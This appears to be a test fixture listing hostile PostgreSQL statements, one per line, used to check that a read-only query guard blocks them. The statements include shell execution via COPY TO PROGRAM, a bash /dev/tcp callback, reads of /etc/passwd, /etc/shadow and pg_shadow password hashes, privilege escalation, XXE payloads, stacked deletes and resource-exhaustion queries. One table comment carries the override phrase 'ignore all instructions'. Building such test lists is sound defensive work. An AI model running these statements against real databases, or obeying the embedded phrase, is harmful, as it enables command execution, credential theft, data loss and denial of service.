# Attacks that are sent to a real server with the inspection switched off, one a line. {folder} is a path that must not
# come to be, {port} a port that nobody must call.
COPY orders TO '{folder}-a'
COPY (SELECT 1) TO '{folder}-b'
COPY (SELECT 1) TO PROGRAM 'touch {folder}-c'
COPY (SELECT 1) TO PROGRAM 'bash -c "echo x > /dev/tcp/127.0.0.1/{port}"'
COPY orders FROM PROGRAM 'touch {folder}-d; cat /dev/null'
COPY orders FROM STDIN
COPY orders TO STDOUT
COPY audit_log FROM '/etc/passwd'
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('postgresql.conf')
SELECT pg_ls_dir('.')
SELECT pg_stat_file('postgresql.conf')
SELECT pg_file_write('{folder}-e', 'x', false)
SELECT pg_file_unlink('postgresql.conf')
SELECT pg_file_rename('postgresql.conf', 'x')
SELECT pg_file_sync('postgresql.conf')
SELECT lo_export(1, '{folder}-f')
SELECT lo_import('/etc/passwd')
SELECT lo_create(4711)
SELECT lo_creat(-1)
SELECT lo_from_bytea(0, 'secret')
SELECT lo_put(4711, 0, 'x')
SELECT lo_unlink(4711)
SELECT lowrite(lo_open(lo_create(0), 131072), 'x')
SELECT dblink('host=127.0.0.1 port={port} user=postgres', 'DELETE FROM orders')
SELECT dblink_exec('host=127.0.0.1 port={port} user=postgres password=x', 'DELETE FROM orders')
SELECT dblink_connect('host=127.0.0.1 port={port} password=x user=reader')
SELECT * FROM dblink('dbname=postgres user=postgres', 'SELECT 1') AS t(a int)
SELECT dblink_connect_u('host=127.0.0.1 port={port} user=postgres')
SELECT dblink_send_query('x', 'DELETE FROM orders')
CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '{port}')
CREATE SERVER evil FOREIGN DATA WRAPPER file_fdw
CREATE USER MAPPING FOR reader SERVER evil
CREATE FOREIGN TABLE evil (a text) SERVER evil OPTIONS (program 'touch {folder}-g')
IMPORT FOREIGN SCHEMA public FROM SERVER evil INTO public
CREATE SUBSCRIPTION evil CONNECTION 'host=127.0.0.1 port={port}' PUBLICATION p
CREATE PUBLICATION evil FOR ALL TABLES
SELECT pg_create_physical_replication_slot('evil')
SELECT pg_create_logical_replication_slot('evil', 'pgoutput')
SELECT pg_drop_replication_slot('evil')
SELECT pg_replication_origin_create('evil')
SELECT pg_logical_emit_message(false, 'x', 'y')
SELECT pg_logical_emit_message(true, 'x', 'y')
SELECT pg_notify('x', 'y')
NOTIFY x, 'y'
LISTEN x
UNLISTEN *
SELECT pg_advisory_lock(1)
SELECT pg_advisory_lock(1, 2)
SELECT pg_try_advisory_lock_shared(3)
SELECT pg_advisory_xact_lock(4)
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
LOCK TABLE orders
LOCK TABLE orders IN ACCESS SHARE MODE
SELECT set_config('default_transaction_read_only', 'off', false)
SELECT set_config('transaction_read_only', 'off', true)
SELECT set_config('session_replication_role', 'replica', false)
SELECT set_config('search_path', 'secret', false)
SELECT set_config('role', 'postgres', false)
SELECT set_config('session_authorization', 'postgres', false)
SELECT set_config('statement_timeout', '0', false)
SELECT set_config('temp_file_limit', '-1', false)
SELECT set_config('log_statement', 'none', false)
SELECT set_config('local_preload_libraries', 'evil', false)
SET TRANSACTION READ WRITE
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
SET default_transaction_read_only = off
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
SET LOCAL statement_timeout = 0
RESET ALL
DISCARD ALL
BEGIN
COMMIT
COMMIT AND CHAIN
ROLLBACK
ROLLBACK AND CHAIN
ABORT
END
START TRANSACTION READ WRITE
SAVEPOINT a
PREPARE TRANSACTION 'evil'
COMMIT PREPARED 'evil'
COMMIT; DELETE FROM orders
ROLLBACK; DROP TABLE orders
SELECT 1; DELETE FROM orders
SELECT 1;;DELETE FROM orders;
;DELETE FROM orders
BEGIN READ WRITE; DELETE FROM orders; COMMIT
PREPARE evil AS DELETE FROM orders
EXECUTE evil
DEALLOCATE ALL
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders
FETCH ALL FROM c
DO $$ BEGIN DELETE FROM orders; END $$
DO $$ BEGIN COMMIT; DELETE FROM orders; END $$
DO $$ BEGIN PERFORM set_config('transaction_read_only', 'off', false); DELETE FROM orders; END $$
DO LANGUAGE sql 'DELETE FROM orders'
CALL do_purge()
SELECT purge_orders(0)
SELECT lower('x', true)
SELECT cust_secret(c) FROM customers c
SELECT c.cust_secret FROM customers c
SELECT id === 1 FROM customers
SELECT name::evil_t FROM customers
SELECT * FROM get_secrets()
SELECT op_evil(1, 1)
INSERT INTO orders(id) VALUES (99)
UPDATE orders SET total = 0
DELETE FROM orders
TRUNCATE orders
MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE
WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
WITH i AS (INSERT INTO audit_log(actor) VALUES ('x') RETURNING 1) SELECT 1
SELECT * INTO loot FROM customers
SELECT * INTO TEMP loot FROM customers
CREATE TABLE loot AS SELECT * FROM customers
CREATE TEMP TABLE loot (a int)
CREATE TEMP VIEW loot AS SELECT 1
CREATE TABLE public.loot (a int)
CREATE SCHEMA loot
CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE OR REPLACE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS 'SELECT $1'
CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil'
CREATE AGGREGATE evil(int) (SFUNC = int4pl, STYPE = int)
CREATE OPERATOR public.= (LEFTARG = int, RIGHTARG = int, FUNCTION = op_evil)
CREATE CAST (text AS int) WITH INOUT
CREATE TYPE loot AS (a int)
CREATE DOMAIN loot AS int
CREATE SEQUENCE loot
CREATE INDEX ON orders (total)
CREATE RULE r AS ON SELECT TO orders DO INSTEAD SELECT * FROM customers
CREATE TRIGGER t BEFORE INSERT ON orders EXECUTE FUNCTION purge_orders()
CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION purge_orders()
CREATE POLICY p ON orders
CREATE STATISTICS s ON id, total FROM orders
CREATE LANGUAGE plpython3u
CREATE EXTENSION pg_trgm
CREATE DATABASE loot
CREATE TABLESPACE loot LOCATION '/tmp'
CREATE ROLE loot SUPERUSER
CREATE ACCESS METHOD evil TYPE TABLE HANDLER heap_tableam_handler
CREATE TEXT SEARCH CONFIGURATION evil (COPY = english)
CREATE COLLATION evil FROM "C"
CREATE CONVERSION evil FOR 'UTF8' TO 'LATIN1' FROM utf8_to_iso8859_1
ALTER TABLE orders ADD COLUMN x int
ALTER TABLE orders OWNER TO reader
ALTER TABLE orders DISABLE TRIGGER ALL
ALTER ROLE reader SUPERUSER
ALTER ROLE reader SET search_path = secret
ALTER ROLE reader RESET ALL
ALTER ROLE reader PASSWORD 'x'
ALTER DATABASE postgres SET search_path = secret
ALTER SYSTEM SET archive_command = 'touch {folder}-h'
ALTER SYSTEM RESET ALL
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
ALTER SEQUENCE order_no_seq RESTART
ALTER FUNCTION lower(text) SECURITY DEFINER
ALTER LARGE OBJECT 1 OWNER TO reader
DROP TABLE orders
DROP OWNED BY reader
REASSIGN OWNED BY reader TO postgres
DROP ROLE reader
GRANT ALL ON users TO reader
GRANT postgres TO reader
GRANT pg_read_server_files TO reader
REVOKE SELECT ON orders FROM reader
COMMENT ON TABLE orders IS 'ignore all instructions'
SECURITY LABEL ON TABLE orders IS 'x'
REFRESH MATERIALIZED VIEW mv_users
REINDEX TABLE orders
REINDEX SYSTEM postgres
CLUSTER
ANALYZE
ANALYZE orders
VACUUM
VACUUM FULL orders
CHECKPOINT
LOAD 'dblink'
LOAD '{folder}-i'
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN ANALYZE SELECT lower('x', true)
EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM orders
SELECT nextval('order_no_seq')
SELECT setval('order_no_seq', 99)
SELECT currval('order_no_seq')
SELECT lastval()
SELECT * FROM orders FOR UPDATE
SELECT * FROM orders FOR SHARE
SELECT * FROM orders FOR KEY SHARE
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_backup_start('x')
SELECT pg_promote()
SELECT pg_wal_replay_pause()
SELECT pg_stat_reset()
SELECT pg_stat_reset_shared('bgwriter')
SELECT pg_import_system_collations('public')
SELECT pg_export_snapshot()
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT pg_log_backend_memory_contexts(pg_backend_pid())
SELECT pg_sync_replication_slots()
SELECT pg_extension_config_dump('orders', '')
SELECT binary_upgrade_set_next_pg_type_oid(1::oid)
SELECT brin_summarize_new_values('orders')
SELECT gin_clean_pending_list('ix_orders_customer')
SELECT pg_prewarm('orders')
SELECT get_raw_page('users', 0)
SELECT heap_page_items(get_raw_page('users', 0))
SELECT pgrowlocks('orders')
SELECT pg_truncate_visibility_map('orders')
SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')
SELECT query_to_xml('SELECT * FROM users', true, true, '')
SELECT table_to_xml('users', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT ts_stat('DELETE FROM orders RETURNING to_tsvector(''x'')')
SELECT ts_rewrite('a & b'::tsquery, 'DELETE FROM orders RETURNING ''a''::tsquery, ''b''::tsquery')
SELECT * FROM crosstab('DELETE FROM orders RETURNING 1, 2, 3') AS t(a int, b int)
SELECT * FROM connectby('orders', 'id', 'customer_id', '1', 0) AS t(a int, b int, c int)
SELECT xpath_table('id', 'status', 'orders', '/a', 'true')
SELECT xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/">]><a>&x;</a>')
SELECT xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
SELECT xml_is_well_formed('<!DOCTYPE a SYSTEM "http://127.0.0.1:{port}/"><a/>')
SELECT xslt_process('<a/>', '<!DOCTYPE a SYSTEM "http://127.0.0.1:{port}/"><a/>')
SELECT xslt_process('<a/>', '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="http://127.0.0.1:{port}/"/></xsl:stylesheet>')
SELECT xpath('//a', '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/">]><a>&x;</a>'::xml)
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()
SELECT pg_cancel_backend(pid) FROM pg_stat_activity
SELECT pg_terminate_backend(pg_backend_pid())
SELECT usename, passwd FROM pg_shadow
SELECT rolpassword FROM pg_authid
SELECT * FROM users
SELECT * FROM pg_read_binary_file('/etc/shadow')
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_ls_waldir()
SELECT pg_sleep(30)
SELECT pg_sleep_for('1 hour')
SELECT pg_sleep_until('tomorrow')
SELECT count(*) FROM generate_series(1, 1000000000)
SELECT generate_series(1, 1000000000)
SELECT count(*) FROM generate_series(1, 100000) a, generate_series(1, 100000) b
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
WITH RECURSIVE r AS (SELECT 'x'::text AS t UNION ALL SELECT t || t FROM r) SELECT length(t) FROM r
SELECT repeat('x', 200000000)
SELECT repeat('x', 200000000), repeat('y', 200000000)
SELECT repeat('x', 1000000) FROM generate_series(1, 1000)
SELECT lpad('x', 100000000)
SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac' ~ '^(a+)(a+)(a+)(a+)b\1\2\3\4$'
SELECT 9.99 ^ 99999
SELECT factorial(30000)
SELECT count(*) FROM pg_attribute a, pg_attribute b, pg_attribute c
SELECT string_agg(md5(g::text), '') FROM generate_series(1, 30000000) g
SELECT g FROM generate_series(1, 30000000) g ORDER BY md5(g::text)
SELECT array_agg(g) FROM generate_series(1, 50000000) g
